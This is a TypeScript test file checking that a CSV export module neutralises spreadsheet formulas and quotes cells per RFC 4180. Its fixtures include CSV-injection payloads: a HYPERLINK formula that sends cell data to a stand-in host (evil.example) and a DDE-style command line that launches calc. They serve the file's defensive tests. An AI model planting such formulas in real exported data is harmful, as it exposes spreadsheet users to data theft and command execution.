/**
 * Formula-safe CSV (DESIGN.md "Directory CSV": CSV written by `report` neutralises
 * spreadsheet formulas, since school staff open these files in Excel), checked by parsing
 * the output back with the RFC 4180 parser the import uses.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, neutraliseFormula, toCsv } from '../../functions/domain/safe-csv.ts';

const roundTrip = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false }) as string[][];

describe('formula neutralisation', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
  ])('%j is shown as text', (input, shown) => {
    expect(neutraliseFormula(input)).toBe(shown);
  });

  it.each(['Amira Khan', "St Mary's", '12', '83.3', '2026-12-09', 'a=b', 'x+1', "O'Brien", ''])('%j is left alone', (input) => {
    expect(neutraliseFormula(input)).toBe(input);
  });
});

describe('RFC 4180 cells', () => {
  it('quotes quotes, commas and line breaks, doubling the quotes', () => {
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('Khan, Amira')).toBe('"Khan, Amira"');
    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
    expect(csvCell('line 1\r\nline 2')).toBe('"line 1\r\nline 2"');
    expect(csvCell('plain')).toBe('plain');
  });

  it('neutralises first, then quotes (a formula with a comma or a leading CR)', () => {
    expect(csvCell('=SUM(A1,A2)')).toBe(`"'=SUM(A1,A2)"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  });

  it('writes numbers as they are and empty cells for null/undefined', () => {
    expect(csvCell(42)).toBe('42');
    expect(csvCell(83.3)).toBe('83.3');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });
});

describe('toCsv', () => {
  const rows = [
    ['name', 'note', 'count'],
    ['=HYPERLINK("http://evil.example","x")', 'a, "quoted"\r\nnote', 3],
    ['@SUM(1)', '-2', null],
    ['\tTabbed', '+1', 0],
  ];

  it('ends every record with CRLF and parses back to the same cells, formulas prefixed', () => {
    const text = toCsv(rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.startsWith('name,note,count\r\n')).toBe(true);
    expect(roundTrip(text)).toEqual([
      ['name', 'note', 'count'],
      [`'=HYPERLINK("http://evil.example","x")`, 'a, "quoted"\r\nnote', '3'],
      ["'@SUM(1)", "'-2", ''],
      ["'\tTabbed", "'+1", '0'],
    ]);
  });

  it('puts a UTF-8 byte order mark first when asked (Excel then reads accented names correctly)', () => {
    const text = toCsv([['Zoë Brontë']], { bom: true });
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(roundTrip(text)).toEqual([['Zoë Brontë']]);
    expect(toCsv([['a']]).charCodeAt(0)).toBe('a'.charCodeAt(0));
  });
});
